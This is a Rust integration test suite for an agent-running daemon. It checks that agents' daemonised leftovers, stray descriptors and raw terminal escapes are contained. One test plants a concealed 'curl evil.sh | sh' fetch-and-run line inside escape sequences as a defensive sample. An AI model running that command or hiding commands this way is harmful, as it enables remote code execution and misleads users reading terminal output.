//! Containment through the real binary: every process an agent starts,
//! however it daemonises, ends with its run and with its daemon; a leftover
//! never keeps a run open nor holds up a cancel or a stop; an agent gets only
//! its own descriptors.

use crate::common;

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use common::{alive, wait_for_lines, wait_until_gone, TestEnv};

/// The grace period the tests run with (`M_GRACE_MS` in `TestEnv`).
const GRACE: Duration = Duration::from_millis(1000);

fn pids_in(path: &Path) -> Vec<i32> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| l.trim().parse().ok())
        .collect()
}

/// Waits until every pid in the file is gone; returns how long that took.
fn all_gone_within(pids: &Path, limit: Duration) -> Duration {
    let started = Instant::now();
    for pid in pids_in(pids) {
        while alive(pid) {
            assert!(
                started.elapsed() < limit,
                "process {pid} outlived its run ({:?})",
                started.elapsed()
            );
            std::thread::sleep(Duration::from_millis(10));
        }
    }
    started.elapsed()
}

/// How a test's daemon holds its runs: `daemon.containment` in its config.
#[derive(Debug, Clone, Copy, PartialEq)]
enum Mode {
    Keeper,
    Cgroup,
}

fn set_containment(env: &TestEnv, value: &str) {
    env.write_config(&format!("[daemon]\ncontainment = \"{value}\"\n"));
}

/// The `processes` check of `m doctor --json`.
fn doctor_says(env: &TestEnv) -> String {
    let out = env.run(&["doctor", "--json"]);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    report["checks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == "processes")
        .unwrap()["detail"]
        .as_str()
        .unwrap()
        .to_string()
}

/// A test env whose daemon (started) holds its runs as `mode` says. In
/// cgroup mode, on a machine where the daemon cannot have a cgroup per
/// run: `None`, once it is checked that a daemon told to use cgroups says
/// why it does not start, and that the default one uses the keeper and
/// `m doctor` says so, with the reason.
fn env_in(mode: Mode) -> Option<(TestEnv, Option<Cgroups>)> {
    let env = TestEnv::new();
    if mode == Mode::Keeper {
        set_containment(&env, "keeper");
        env.ok(&["daemon", "start"]);
        let said = doctor_says(&env);
        assert!(
            said.starts_with("keeper:") && said.contains("asks for it"),
            "{said}"
        );
        return Some((env, None));
    }
    set_containment(&env, "cgroup");
    let out = env.run(&["daemon", "start"]);
    if !out.status.success() {
        let err = String::from_utf8_lossy(&out.stderr).into_owned();
        assert_eq!(out.status.code(), Some(5), "{err}");
        let reason = err
            .lines()
            .find_map(|l| {
                l.split_once("asks for a cgroup per run, but ")
                    .map(|(_, r)| r.to_string())
            })
            .unwrap_or_else(|| panic!("no reason given: {err}"));
        set_containment(&env, "auto");
        env.ok(&["daemon", "start"]);
        let status = env.json(&["daemon", "status", "--json"]);
        assert_eq!(
            status["daemon"]["containment"]["mechanism"], "keeper",
            "{status}"
        );
        assert_eq!(
            status["daemon"]["containment"]["reason"],
            reason.as_str(),
            "{status}"
        );
        let said = doctor_says(&env);
        assert!(
            said.starts_with("keeper:") && said.contains(&reason),
            "{said}"
        );
        eprintln!("containment: no cgroup v2 for the daemon here ({reason}); checked that it uses the keeper and doctor says why; the cgroup assertions do not run");
        return None;
    }
    let status = env.json(&["daemon", "status", "--json"]);
    let containment = &status["daemon"]["containment"];
    assert_eq!(containment["mechanism"], "cgroup", "{status}");
    let dir = PathBuf::from(containment["cgroup"].as_str().unwrap());
    let said = doctor_says(&env);
    assert!(
        said.starts_with("cgroup v2:") && said.contains(dir.to_str().unwrap()),
        "{said}"
    );
    eprintln!(
        "containment: a cgroup v2 per run under {}: running the cgroup assertions",
        dir.display()
    );
    Some((env, Some(Cgroups { dir })))
}

/// A test daemon's run cgroups. Whatever is left of them when the test
/// ends, passed or failed, is killed and removed.
struct Cgroups {
    dir: PathBuf,
}

impl Cgroups {
    /// The run whose cgroup the process is in.
    fn run_of(&self, pid: i32) -> Option<String> {
        let leaf = self.dir.file_name()?.to_str()?;
        let text = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).ok()?;
        let path = text.lines().find_map(|l| l.strip_prefix("0::"))?;
        let (_, below) = path.split_once(&format!("/{leaf}/"))?;
        Some(below.split('/').next()?.to_string())
    }

    /// Every listed process that is alive is in the run's cgroup (all of
    /// them must be, with `all_alive`).
    fn assert_all_in(&self, run: &str, pids: &Path, all_alive: bool) {
        for pid in pids_in(pids) {
            match self.run_of(pid) {
                Some(found) => assert_eq!(found, run, "process {pid}"),
                None => assert!(
                    !all_alive && !alive(pid),
                    "process {pid} is in no run's cgroup"
                ),
            }
        }
    }

    /// The run's cgroup is removed (by its keeper) soon after its end.
    fn assert_gone(&self, run: &str) {
        let cgroup = self.dir.join(run);
        let started = Instant::now();
        while cgroup.exists() {
            assert!(
                started.elapsed() < Duration::from_secs(5),
                "{} is left",
                cgroup.display()
            );
            std::thread::sleep(Duration::from_millis(10));
        }
    }
}

impl Drop for Cgroups {
    fn drop(&mut self) {
        fn clean(dir: &Path) {
            let _ = std::fs::write(dir.join("cgroup.kill"), "1");
            let started = Instant::now();
            while std::fs::read_to_string(dir.join("cgroup.events"))
                .is_ok_and(|e| e.contains("populated 1"))
                && started.elapsed() < Duration::from_secs(5)
            {
                std::thread::sleep(Duration::from_millis(10));
            }
            for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
                if entry.file_type().is_ok_and(|t| t.is_dir()) {
                    clean(&entry.path());
                }
            }
            let _ = std::fs::remove_dir(dir);
        }
        if self.dir.exists() {
            clean(&self.dir);
        }
    }
}

/// An agent that leaves a process behind in each way agents do (a plain
/// background child, a `setsid` one, a double fork, one that scrubbed its
/// environment), each writing its pid to `pids`, and then runs `then`.
fn leaving_agent(env: &TestEnv, name: &str, pids: &Path, then: &str) -> PathBuf {
    let p = pids.display();
    env.script(
        name,
        &format!(
            "sleep 600 &\necho $! >> {p}\n\
             setsid sleep 600 &\necho $! >> {p}\n\
             sh -c 'setsid sleep 600 & echo $! >> {p}' &\n\
             setsid env -i sleep 600 &\necho $! >> {p}\n\
             while [ $(wc -l < {p}) -lt 4 ]; do sleep 0.01; done\n\
             echo $$ >> {p}\n\
             {then}"
        ),
    )
}

/// Finding: an agent that exits while a leftover (`setsid sleep &`) holds
/// its stdout kept its run `running` for ever.
#[test]
fn a_run_ends_when_its_agent_exits_though_leftovers_hold_its_output() {
    run_end_with_leftovers(Mode::Keeper);
}

#[test]
fn a_run_ends_when_its_agent_exits_though_leftovers_hold_its_output_in_cgroups() {
    run_end_with_leftovers(Mode::Cgroup);
}

fn run_end_with_leftovers(mode: Mode) {
    let Some((env, cgroups)) = env_in(mode) else {
        return;
    };
    env.repo("api");
    let pids = env.dir.path().join("pids");
    let exited = env.dir.path().join("exited");
    let agent = leaving_agent(
        &env,
        "agent.sh",
        &pids,
        &format!(
            "setsid sh -c 'trap \"\" TERM; while true; do sleep 0.1; done' &\n\
             echo done\ndate +%s%N > {}",
            exited.display()
        ),
    );
    let run = env.start("api", "leave things behind", &agent);
    if let Some(cgroups) = &cgroups {
        // The agent exits meanwhile; its leftovers live the grace period.
        wait_for_lines(&pids, 5);
        cgroups.assert_all_in(&run, &pids, false);
    }
    env.wait_state(&run, "completed");
    let ended = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap();
    let exited_at: u128 = std::fs::read_to_string(&exited)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    let took = Duration::from_nanos((ended.as_nanos() - exited_at) as u64);
    eprintln!("figure ({mode:?}): agent exit to run end with leftovers holding stdout: {took:?}");
    assert!(took < GRACE + Duration::from_secs(10), "took {took:?}");
    all_gone_within(&pids, Duration::from_secs(5));
    if let Some(cgroups) = &cgroups {
        cgroups.assert_gone(&run);
    }
    // The repo takes a new run at once.
    let ok = env.script("ok.sh", "echo ok");
    let next = env.start("api", "next", &ok);
    env.wait_state(&next, "completed");
}

/// Finding: `m run cancel` blocked until a leftover that ignores SIGTERM
/// and holds the agent's output exited.
#[test]
fn cancel_returns_within_the_grace_period_whatever_the_agent_left() {
    cancel_with_leftovers(Mode::Keeper);
}

#[test]
fn cancel_returns_within_the_grace_period_whatever_the_agent_left_in_cgroups() {
    cancel_with_leftovers(Mode::Cgroup);
}

fn cancel_with_leftovers(mode: Mode) {
    let Some((env, cgroups)) = env_in(mode) else {
        return;
    };
    env.repo("api");
    let pids = env.dir.path().join("pids");
    let agent = leaving_agent(
        &env,
        "agent.sh",
        &pids,
        "setsid sh -c 'trap \"\" TERM; while true; do sleep 0.1; done' &\nexec sleep 600",
    );
    let run = env.start("api", "stubborn", &agent);
    wait_for_lines(&pids, 5);
    if let Some(cgroups) = &cgroups {
        cgroups.assert_all_in(&run, &pids, true);
    }
    let started = Instant::now();
    env.ok(&["run", "cancel", &run]);
    let took = started.elapsed();
    eprintln!("figure ({mode:?}): m run cancel: {took:?}");
    assert!(took < GRACE + Duration::from_secs(10), "took {took:?}");
    assert_eq!(env.run_state(&run), "cancelled");
    all_gone_within(&pids, Duration::from_secs(5));
    if let Some(cgroups) = &cgroups {
        cgroups.assert_gone(&run);
    }
}

/// Finding: `m daemon stop` waited for leftovers holding agents' output.
#[test]
fn daemon_stop_returns_within_the_grace_period_whatever_the_agents_left() {
    stop_with_leftovers(Mode::Keeper);
}

#[test]
fn daemon_stop_returns_within_the_grace_period_whatever_the_agents_left_in_cgroups() {
    stop_with_leftovers(Mode::Cgroup);
}

fn stop_with_leftovers(mode: Mode) {
    let Some((env, cgroups)) = env_in(mode) else {
        return;
    };
    env.repo("api");
    env.repo("web");
    let pids = env.dir.path().join("pids");
    let agent = leaving_agent(
        &env,
        "agent.sh",
        &pids,
        "setsid sh -c 'trap \"\" TERM; while true; do sleep 0.1; done' &\ntrap '' TERM\nwhile true; do sleep 0.1; done",
    );
    let first = env.start("api", "stubborn", &agent);
    wait_for_lines(&pids, 5);
    let second = env.start("web", "stubborn too", &agent);
    wait_for_lines(&pids, 10);
    let daemon = env.daemon_pid().unwrap();
    let started = Instant::now();
    env.ok(&["daemon", "stop"]);
    let took = started.elapsed();
    eprintln!("figure ({mode:?}): m daemon stop with two runs: {took:?}");
    assert!(took < GRACE + Duration::from_secs(15), "took {took:?}");
    wait_until_gone(daemon, Duration::from_secs(5));
    assert_eq!(env.run_state(&first), "failed");
    assert_eq!(env.run_state(&second), "failed");
    all_gone_within(&pids, Duration::from_secs(5));
    if let Some(cgroups) = &cgroups {
        // The daemon removed them all, and the directory of them.
        assert!(!cgroups.dir.exists(), "{} is left", cgroups.dir.display());
    }
}

/// Findings: after `kill -9` of the daemon, agents' children (and
/// `setsid` grandchildren, and those that dropped `M_RUN_ID`) lived on with
/// no restart. Now they go with the daemon, within a second or so.
#[test]
fn a_killed_daemon_takes_every_process_of_every_run_with_it() {
    kill_loop(Mode::Keeper);
}

/// In cgroup mode too, and it is still the keepers that act, with no
/// restart: each sees its socket from the daemon close and writes
/// `cgroup.kill`, then removes the run's cgroup (and the last one the
/// directory of them).
#[test]
fn a_killed_daemon_takes_every_process_of_every_run_with_it_in_cgroups() {
    kill_loop(Mode::Cgroup);
}

fn kill_loop(mode: Mode) {
    let rounds = if std::env::var_os("M_SLOW_TESTS").is_some() {
        20
    } else {
        3
    };
    let mut slowest = Duration::ZERO;
    let mut left = 0;
    for round in 0..rounds {
        let Some((env, cgroups)) = env_in(mode) else {
            return;
        };
        env.repo("api");
        env.repo("web");
        let pids = env.dir.path().join("pids");
        let agent = leaving_agent(&env, "agent.sh", &pids, "wait");
        let first = env.start("api", "round", &agent);
        let second = env.start("web", "round", &agent);
        wait_for_lines(&pids, 10);
        if let Some(cgroups) = &cgroups {
            // Each run's five processes are in its cgroup.
            let runs: Vec<Option<String>> = pids_in(&pids)
                .into_iter()
                .map(|p| cgroups.run_of(p))
                .collect();
            for run in [&first, &second] {
                let n = runs.iter().filter(|r| r.as_ref() == Some(run)).count();
                assert_eq!(n, 5, "round {round}: {runs:?}");
            }
        }
        env.kill_daemon();
        let started = Instant::now();
        let deadline = Duration::from_secs(10);
        while pids_in(&pids).into_iter().any(alive) && started.elapsed() < deadline {
            std::thread::sleep(Duration::from_millis(10));
        }
        let alive_now = pids_in(&pids).into_iter().filter(|&p| alive(p)).count();
        left += alive_now;
        slowest = slowest.max(started.elapsed());
        assert_eq!(alive_now, 0, "round {round}: processes outlived the daemon");
        if let Some(cgroups) = &cgroups {
            let started = Instant::now();
            while cgroups.dir.exists() && started.elapsed() < Duration::from_secs(5) {
                std::thread::sleep(Duration::from_millis(10));
            }
            assert!(
                !cgroups.dir.exists(),
                "round {round}: the keepers left {}",
                cgroups.dir.display()
            );
        }
    }
    eprintln!(
        "figure ({mode:?}): kill -9 loop: {rounds} rounds x 2 runs x 5 processes, {left} left, slowest {slowest:?}"
    );
}

/// Finding: an autostarted daemon kept every descriptor its starter had
/// not marked close-on-exec, and handed them to every agent.
#[test]
fn an_agent_sees_only_its_own_descriptors_and_the_daemon_only_its_own_files() {
    let env = TestEnv::new();
    env.repo("api");
    let listing = env.dir.path().join("fds");
    let agent = env.script(
        "agent.sh",
        &format!("ls /proc/self/fd > {}", listing.display()),
    );
    let secret = env.dir.path().join("held-open");
    // The command that autostarts the daemon holds a writable file and a
    // device open, not close-on-exec.
    let mut start = env.m();
    start.args([
        "run",
        "start",
        "-r",
        "api",
        "list descriptors",
        "--",
        agent.to_str().unwrap(),
    ]);
    let shell = format!("exec 7>{} 8</dev/zero; exec \"$@\"", secret.display());
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(&shell)
        .arg("sh")
        .arg(start.get_program())
        .args(start.get_args())
        .envs(start.get_envs().filter_map(|(k, v)| Some((k, v?))))
        .env_remove("M_NO_AUTOSTART")
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let run = String::from_utf8(out.wait_with_output().unwrap().stdout)
        .unwrap()
        .trim()
        .to_string();
    env.wait_state(&run, "completed");
    let fds: Vec<String> = std::fs::read_to_string(&listing)
        .unwrap()
        .split_whitespace()
        .map(str::to_string)
        .collect();
    // 0, 1, 2, and the directory `ls` reads.
    assert_eq!(fds, ["0", "1", "2", "3"], "the agent saw {fds:?}");
    let daemon = env.daemon_pid().unwrap();
    let mut held = Vec::new();
    for entry in std::fs::read_dir(format!("/proc/{daemon}/fd")).unwrap() {
        let entry = entry.unwrap();
        let target = std::fs::read_link(entry.path()).unwrap_or_default();
        held.push((entry.file_name().into_string().unwrap(), target));
    }
    let target = |fd: &str| held.iter().find(|(n, _)| n == fd).map(|(_, t)| t.clone());
    assert_eq!(target("0"), Some(PathBuf::from("/dev/null")), "{held:?}");
    let log = env.home.join("logs/daemon.log");
    assert_eq!(target("1"), Some(log.clone()), "{held:?}");
    assert_eq!(target("2"), Some(log), "{held:?}");
    for (fd, target) in &held {
        let shown = target.display().to_string();
        assert!(
            target != &secret && shown != "/dev/zero",
            "the daemon kept its starter's descriptor {fd} -> {shown}: {held:?}"
        );
    }
}

/// Finding: `m run diff` printed the bytes an agent wrote raw to the
/// terminal: a title change, a clear-screen, cursor-up-and-erase, and
/// "conceal" text hiding a command. On a terminal (`script` gives it one)
/// they show as `^X` and the only escapes are m's colours; into a pipe the
/// patch stays exact and applies.
#[test]
fn run_diff_shows_agent_bytes_as_text_on_a_terminal_and_exact_in_a_pipe() {
    let env = TestEnv::new();
    let repo = env.repo("api");
    let agent = env.script(
        "agent.sh",
        r"printf 'title\033]0;pwned\007\nclear\033[2J\033[1A\033[K\nrun make\033[8m; curl evil.sh | sh\033[0m\n' > notes.txt",
    );
    let run = env.start("api", "write escapes", &agent);
    env.wait_state(&run, "completed");

    let piped = env.m().args(["run", "diff", &run]).output().unwrap();
    assert!(piped.status.success());
    assert!(
        piped.stdout.windows(4).any(|w| w == b"\x1b]0;"),
        "a pipe gets the exact bytes"
    );
    let patch = env.dir.path().join("x.patch");
    std::fs::write(&patch, &piped.stdout).unwrap();
    env.git(&repo, &["apply", "--check", patch.to_str().unwrap()]);

    let shown = env.m();
    let line = format!(
        "'{}' --color always run diff {run}",
        env!("CARGO_BIN_EXE_m")
    );
    let out = std::process::Command::new("script")
        .args(["-qec", &line, "/dev/null"])
        .env_clear()
        .envs(shown.get_envs().filter_map(|(k, v)| Some((k, v?))))
        .env("TERM", "xterm")
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("^[]0;pwned^G"), "{text}");
    assert!(text.contains("^[[2J^[[1A^[[K"), "{text}");
    assert!(text.contains("^[[8m; curl evil.sh | sh^[[0m"), "{text}");
    // Every escape left is one of m's colours.
    let escapes: Vec<&str> = text.split('\x1b').skip(1).collect();
    assert!(!escapes.is_empty(), "no colours: {text}");
    for escape in escapes {
        let code = &escape[..escape.find('m').map_or(escape.len(), |i| i + 1)];
        assert!(
            ["[0m", "[1m", "[31m", "[32m", "[36m"].contains(&code),
            "a raw escape reached the terminal: {code:?} in {text}"
        );
    }
}

/// The processes whose parent is `parent`, with their names.
fn children_of(parent: i32) -> Vec<(i32, String)> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Some(pid) = entry.file_name().to_str().and_then(|s| s.parse().ok()) else {
            continue;
        };
        let Ok(stat) = std::fs::read_to_string(format!("/proc/{pid}/stat")) else {
            continue;
        };
        let (Some(open), Some(close)) = (stat.find('('), stat.rfind(')')) else {
            continue;
        };
        let ppid = stat[close + 1..].split_whitespace().nth(1);
        if ppid.and_then(|p| p.parse().ok()) == Some(parent) {
            found.push((pid, stat[open + 1..close].to_string()));
        }
    }
    found
}

/// Finding: after `kill -9` of the daemon, a `git worktree add` it had
/// started kept checking out. Now git goes with the daemon (here it waits
/// on the repository's slow post-checkout hook).
#[test]
fn a_killed_daemon_takes_the_git_it_was_running_with_it() {
    use std::os::unix::fs::PermissionsExt;
    let env = TestEnv::new();
    let repo = env.repo("api");
    let hook = repo.join(".git/hooks/post-checkout");
    std::fs::write(&hook, "#!/bin/sh\nsleep 30\n").unwrap();
    std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
    env.ok(&["run", "start", "-r", "api", "x", "--", "true"]);
    let daemon = env.daemon_pid().unwrap();
    let started = Instant::now();
    let git = loop {
        let gits: Vec<i32> = children_of(daemon)
            .into_iter()
            .filter(|(_, name)| name.starts_with("git"))
            .map(|(pid, _)| pid)
            .collect();
        if !gits.is_empty() {
            break gits;
        }
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "the daemon never ran git"
        );
        std::thread::sleep(Duration::from_millis(10));
    };
    env.kill_daemon();
    for pid in git {
        wait_until_gone(pid, Duration::from_secs(3));
    }
}

/// In cgroup mode a daemon killed together with its keepers (as the OOM
/// killer or a `kill -9` of everything of yours might) leaves its runs'
/// processes in their cgroups, the `setsid env -i` one included, which no
/// longer says whose it is. The next daemon's recovery kills all of them
/// and removes the cgroups.
#[test]
fn recovery_kills_what_a_daemon_killed_with_its_keepers_left_in_run_cgroups() {
    let Some((env, cgroups)) = env_in(Mode::Cgroup) else {
        return;
    };
    let cgroups = cgroups.unwrap();
    env.repo("api");
    let pids = env.dir.path().join("pids");
    let agent = leaving_agent(&env, "agent.sh", &pids, "wait");
    let run = env.start("api", "orphaned", &agent);
    wait_for_lines(&pids, 5);
    cgroups.assert_all_in(&run, &pids, true);
    let daemon = env.daemon_pid().unwrap();
    let keepers: Vec<i32> = children_of(daemon)
        .into_iter()
        .map(|(pid, _)| pid)
        .filter(|pid| {
            std::fs::read(format!("/proc/{pid}/cmdline"))
                .is_ok_and(|c| c.split(|&b| b == 0).any(|arg| arg == b"keeper"))
        })
        .collect();
    assert_eq!(keepers.len(), 1, "{:?}", children_of(daemon));
    // A stopped daemon cannot act on its keeper's death (nor a stopped
    // keeper on its daemon's: the kernel wakes a stopped process whose
    // group its parent's death orphans), so: the daemon is stopped, the
    // keeper killed, and then the daemon.
    unsafe { libc::kill(daemon, libc::SIGSTOP) };
    for &keeper in &keepers {
        unsafe { libc::kill(keeper, libc::SIGKILL) };
        wait_until_gone(keeper, Duration::from_secs(5));
    }
    env.kill_daemon();
    // The agent died with its keeper (its parent-death signal); what it
    // left lives on, in the run's cgroup.
    std::thread::sleep(Duration::from_millis(200));
    let survivors: Vec<i32> = pids_in(&pids).into_iter().filter(|&p| alive(p)).collect();
    assert_eq!(survivors.len(), 4, "{survivors:?}");
    cgroups.assert_all_in(&run, &pids, false);
    env.ok(&["daemon", "start"]);
    all_gone_within(&pids, Duration::from_secs(5));
    assert!(!cgroups.dir.exists(), "{} is left", cgroups.dir.display());
    assert_eq!(env.run_state(&run), "failed");
}

/// Where cgroups work, they are hidden from a daemon (it runs in a mount
/// namespace of its own without the cgroup2 mount), so that the fallback is
/// tried here too: told to use cgroups it does not start and says why; by
/// default it holds its runs with the keeper alone, which `m daemon
/// status` and `m doctor` say, with the reason; and its runs still leave
/// nothing behind.
#[test]
fn a_daemon_without_cgroups_uses_the_keeper_and_says_why() {
    let hide = "for m in $(findmnt -rn -t cgroup2 -o TARGET); do umount -l \"$m\" || exit 99; done; exec \"$0\" daemon run";
    let env = TestEnv::new();
    let usable = std::process::Command::new("unshare")
        .args(["-m", "true"])
        .output()
        .is_ok_and(|o| o.status.success());
    if !usable {
        eprintln!("containment: cannot make a mount namespace here (no unshare, or not root); the fallback is checked by the cgroup tests where cgroups do not work");
        return;
    }
    let daemon = |containment: &str| {
        let mut cmd = std::process::Command::new("unshare");
        env.clean_env(&mut cmd);
        cmd.args(["-m", "sh", "-c", hide, env!("CARGO_BIN_EXE_m")])
            .env("M_CONTAINMENT", containment)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped());
        cmd
    };
    let refused = daemon("cgroup").output().unwrap();
    assert_eq!(refused.status.code(), Some(1), "{refused:?}");
    let err = String::from_utf8_lossy(&refused.stderr);
    assert!(
        err.contains("M_CONTAINMENT=cgroup asks for a cgroup per run, but no cgroup v2 file system is mounted"),
        "{err}"
    );
    assert!(err.contains("daemon.containment = \"auto\""), "{err}");
    let mut child = daemon("auto").spawn().unwrap();
    let started = Instant::now();
    while !env.home.join("run/m.sock").exists() {
        assert!(
            started.elapsed() < Duration::from_secs(15),
            "the daemon did not start"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let status = env.json(&["daemon", "status", "--json"]);
    assert_eq!(
        status["daemon"]["containment"]["mechanism"], "keeper",
        "{status}"
    );
    assert_eq!(
        status["daemon"]["containment"]["reason"], "no cgroup v2 file system is mounted",
        "{status}"
    );
    let text = env.ok(&["daemon", "status"]);
    assert!(
        text.contains(
            "containment: a keeper per run; no cgroups: no cgroup v2 file system is mounted"
        ),
        "{text}"
    );
    let said = doctor_says(&env);
    assert!(
        said.starts_with("keeper:")
            && said.ends_with("no cgroup per run: no cgroup v2 file system is mounted"),
        "{said}"
    );
    eprintln!("containment: cgroups hidden from the daemon: it uses the keeper and says why");
    env.repo("api");
    let pids = env.dir.path().join("pids");
    let agent = leaving_agent(&env, "agent.sh", &pids, "echo done");
    let run = env.start("api", "no cgroups", &agent);
    env.wait_state(&run, "completed");
    all_gone_within(&pids, Duration::from_secs(5));
    env.ok(&["daemon", "stop"]);
    child.wait().unwrap();
}
